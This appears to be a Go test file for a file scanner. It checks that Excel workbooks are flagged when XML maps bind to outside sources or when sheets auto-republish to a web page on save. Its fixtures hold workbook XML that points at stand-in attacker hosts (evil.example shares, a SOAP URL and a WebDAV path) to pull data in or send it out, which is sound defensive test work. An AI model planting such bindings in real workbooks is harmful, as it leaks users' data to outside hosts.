package filetype

import (
	"strings"
	"testing"
)

// TestWorkbookXMLMapBinding: an XML map bound to its data's source (a
// DataBinding in xl/xmlMaps.xml, or in a part of any name, in UTF-16
// too) is content from outside the file, as a data connection is: Excel
// reads the source again as the map refreshes. A map without one is
// not; a map part that does not read as XML is not inspected.
func TestWorkbookXMLMapBinding(t *testing.T) {
	const (
		maps   = "xl/xmlMaps.xml"
		schema = `<Schema ID="Schema1"><xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:element name="root" type="xsd:string"/></xsd:schema></Schema>`
		open   = `<MapInfo xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" SelectionNamespaces="">` + schema + `<Map ID="1" Name="root_Map" RootElement="root" SchemaID="Schema1" ShowImportExportValidationErrors="false" AutoFit="true" Append="false" PreserveSortAFLayout="true" PreserveFormat="true">`
		close  = `</Map></MapInfo>`
	)
	bound := []string{externalContent + " " + maps + " (XML map data binding)"}
	part := func(name string, b []byte) []byte { return xlsx(t, "", "", deflate(name, b)) }
	cases := []classifyCase{
		{name: "bound to a file by a connection", filename: "a.xlsx",
			data:  part(maps, []byte(open+`<DataBinding FileBinding="true" ConnectionID="1" DataBindingLoadMode="1"/>`+close)),
			class: ClassOffice, sniffed: mimeXlsx, findings: bound},
		{name: "bound to a file on a share by name", filename: "a.xlsx",
			data:  part(maps, []byte(open+`<DataBinding DataBindingName="b" FileBinding="true" FileBindingName="\\evil.example\s\data.xml" DataBindingLoadMode="1"/>`+close)),
			class: ClassOffice, sniffed: mimeXlsx, findings: bound},
		{name: "bound to a data retrieval service in its content, prefixed", filename: "a.xlsx",
			data:  part(maps, []byte(`<x:MapInfo xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:Map ID="1" Name="m" RootElement="r" SchemaID="S"><x:DataBinding DataBindingLoadMode="1"><udc:DataSource xmlns:udc="http://schemas.microsoft.com/data/udc" MajorVersion="2"><udc:ConnectionInfo><ws:SOAPInfo xmlns:ws="http://schemas.microsoft.com/data/udc/soap"><ws:ServiceUrl>http://evil.example/svc</ws:ServiceUrl></ws:SOAPInfo></udc:ConnectionInfo></udc:DataSource></x:DataBinding></x:Map></x:MapInfo>`)),
			class: ClassOffice, sniffed: mimeXlsx, findings: bound},
		{name: "in a part of another name, in UTF-16", filename: "a.xlsx",
			data:  part("xl/maps/m.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?>`+open+`<DataBinding FileBinding="true" ConnectionID="1" DataBindingLoadMode="1"/>`+close)),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{externalContent + " xl/maps/m.xml (XML map data binding)"}},
		{name: "a map part with a DTD", filename: "a.xlsx",
			data:  part(maps, []byte(`<!DOCTYPE m [<!ENTITY b "DataBinding">]>`+open+close)),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: formulas not inspected " + maps + ": DTD"}},
		{name: "clean, a map without a binding", filename: "a.xlsx",
			data:  part(maps, []byte(open+close)),
			class: ClassOffice, sniffed: mimeXlsx, clean: true},
	}
	runClassify(t, cases)
}

// TestWorkbookWebRepublish: a range or sheet published as a web page
// again each time the workbook is saved (autoRepublish, in the
// workbook's webPublishObjects or a sheet's webPublishItems) writes to
// its destination, a share or a web folder, as the user saves: content
// sent outside the file. One not republished on saving is not.
func TestWorkbookWebRepublish(t *testing.T) {
	const (
		book  = "xl/workbook.xml"
		sheet = "xl/worksheets/sheet1.xml"
	)
	published := func(where string) []string {
		return []string{externalContent + " " + where + " (web page published on saving)"}
	}
	object := func(attrs string) string {
		return `<webPublishObjects count="1"><webPublishObject id="1" divId="a_1" sourceObject="Sheet1" ` + attrs + `/></webPublishObjects>`
	}
	item := func(attrs string) string {
		return `</sheetData><webPublishItems count="1"><webPublishItem id="2" divId="a_2" sourceType="range" sourceRef="A1:B2" ` + attrs + `/></webPublishItems><sheetData>`
	}
	cases := []classifyCase{
		{name: "a workbook's object to a share", filename: "a.xlsx",
			data:  xlsx(t, object(`destinationFile="\\evil.example\s\p.htm" autoRepublish="1"`), ""),
			class: ClassOffice, sniffed: mimeXlsx, findings: published(book)},
		{name: "a sheet's item to the web", filename: "a.xlsx",
			data:  xlsx(t, "", item(`destinationFile="https://evil.example/dav/p.htm" autoRepublish="true"`)),
			class: ClassOffice, sniffed: mimeXlsx, findings: published(sheet)},
		{name: "beside the workbook, on, blanks", filename: "a.xlsx",
			data:  xlsx(t, "", item(`destinationFile="p.htm" autoRepublish=" on "`)),
			class: ClassOffice, sniffed: mimeXlsx, findings: published(sheet)},
		{name: "named twice, once true", filename: "a.xlsx",
			data:  xlsx(t, object(`destinationFile="\\evil.example\s\p.htm" autoRepublish="0" x:autoRepublish="1" xmlns:x="urn:x"`), ""),
			class: ClassOffice, sniffed: mimeXlsx, findings: published(book)},
		{name: "clean, not republished", filename: "a.xlsx",
			data:  xlsx(t, object(`destinationFile="\\evil.example\s\p.htm"`), item(`destinationFile="\\evil.example\s\q.htm" autoRepublish="false"`)),
			class: ClassOffice, sniffed: mimeXlsx, clean: true},
	}
	runClassify(t, cases)
}

// TestWorkbookMarksAcrossReads: a setting's element name cut by the
// boundary of two reads is found (scanMarks keeps the last bytes of a
// read, which must be longer than any mark), in any case.
func TestWorkbookMarksAcrossReads(t *testing.T) {
	for _, mark := range []string{"<DataBinding ", "<x:webPublishItem ", "<WEBPUBLISHOBJECT "} {
		for at := 32<<10 - 16; at < 32<<10+24; at++ {
			part := "<w>" + strings.Repeat(" ", at-3) + mark + "/></w>"
			n, marked, err := scanMarks(strings.NewReader(part), false, hasWorkbookMark)
			if !marked || err != nil || n != int64(len(part)) {
				t.Fatalf("%q at %d: marked %v, %d bytes, %v", mark, at, marked, n, err)
			}
		}
	}
	if _, marked, err := scanMarks(strings.NewReader("<sst><si><t>data binding, web publish</t></si></sst>"), false, hasWorkbookMark); marked || err != nil {
		t.Errorf("shared strings without a mark: marked %v, %v", marked, err)
	}
}
